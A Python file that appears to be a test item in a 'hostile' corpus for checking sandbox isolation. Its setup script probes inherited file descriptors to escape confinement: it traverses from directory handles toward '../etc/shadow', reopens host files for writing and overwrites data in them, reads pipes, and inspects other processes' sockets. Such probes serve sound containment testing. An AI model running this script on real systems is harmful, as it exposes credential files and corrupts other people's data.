"""Uses every descriptor that the kernel inherited: files, folders, sockets, pipes."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "setup-001": """
import os, socket, stat, struct

here = {os.stat(folder).st_dev for folder in ("/home/student", "/tmp", "/dev/shm")}
first = {os.stat(f"/proc/self/fd/{fd}").st_ino for fd in (0, 1, 2)}
for fd in sorted(map(int, os.listdir("/proc/self/fd"))):
    try:
        kind, link = os.fstat(fd), os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if stat.S_ISDIR(kind.st_mode):
        for up in ("..", "../..", "../../../../..", "../srv", "../etc/shadow"):
            try:
                os.open(up, os.O_RDONLY, dir_fd=fd)
                print("REACHED folder", fd, link, up)
            except OSError:
                pass
    elif stat.S_ISREG(kind.st_mode) and kind.st_dev not in here:
        for way in (os.O_RDWR, os.O_WRONLY | os.O_APPEND):
            try:
                os.close(os.open(f"/proc/self/fd/{fd}", way))
                print("REACHED a file of the machine", fd, link)
            except OSError:
                pass
        try:
            os.pwrite(fd, b"x" * 4096, 1 << 24)
            print("REACHED a file of the machine, written", fd, link)
        except OSError:
            pass
    elif stat.S_ISFIFO(kind.st_mode) and kind.st_ino not in first:
        for way in (os.O_RDONLY | os.O_NONBLOCK, os.O_WRONLY | os.O_NONBLOCK):
            try:
                again = os.open(f"/proc/self/fd/{fd}", way)
                heard = os.read(again, 1 << 16) if way == os.O_RDONLY else b""
                print("seen pipe", fd, link, heard)
            except OSError:
                pass
    elif stat.S_ISSOCK(kind.st_mode):
        plug = socket.socket(fileno=os.dup(fd))
        if plug.family != socket.AF_UNIX:
            print("seen", fd, plug)
            continue
        pid, user, _ = struct.unpack("3i", plug.getsockopt(1, socket.SO_PEERCRED, 12))
        listens = plug.getsockopt(1, socket.SO_ACCEPTCONN)
        own = plug.getsockname()
        if not own and not listens and pid != os.getpid():
            print("REACHED an unnamed socket of another process", fd, pid, user)
        print("seen socket", fd, own, plug.type, pid, user, listens)
print("TRIED")
"""
    },
    tried=True,
)
